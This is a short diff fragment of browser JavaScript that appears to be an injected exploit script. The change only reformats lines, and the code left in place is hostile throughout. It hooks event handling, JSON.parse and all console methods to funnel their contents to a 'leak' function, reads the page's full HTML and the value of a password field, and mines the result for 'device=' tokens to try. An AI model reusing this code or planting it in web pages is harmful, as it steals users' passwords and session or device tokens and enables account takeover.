@@ -110,10 +110,12 @@ Event.prototype.stopImmediatePropagation = function () {
   try { grab(EP.get.call(this)[0]); } catch (e) {} return SI.apply(this, arguments); };
 var JP = JSON.parse; JSON.parse = function (t) { seen.push(String(t)); return JP.apply(JSON, arguments); };
 ['log', 'warn', 'error', 'info', 'debug'].forEach(function (k) {
-  var o = console[k]; console[k] = function () { leak(Array.prototype.join.call(arguments, ' ')); return o.apply(console, arguments); };
+  var o = console[k];
+  console[k] = function () { leak(Array.prototype.join.call(arguments, ' ')); return o.apply(console, arguments); };
 });
 function tryAll() {
-  var text = seen.join(' ') + ' ' + document.documentElement.outerHTML + document.getElementById('pw').value, re = /device=([A-Za-z0-9_%%-]+)/g, m;
+  var text = seen.join(' ') + ' ' + document.documentElement.outerHTML + document.getElementById('pw').value;
+  var re = /device=([A-Za-z0-9_%%-]+)/g, m;
   while ((m = re.exec(text))) {
     if (tried[m[1]]) continue;
     tried[m[1]] = 1;
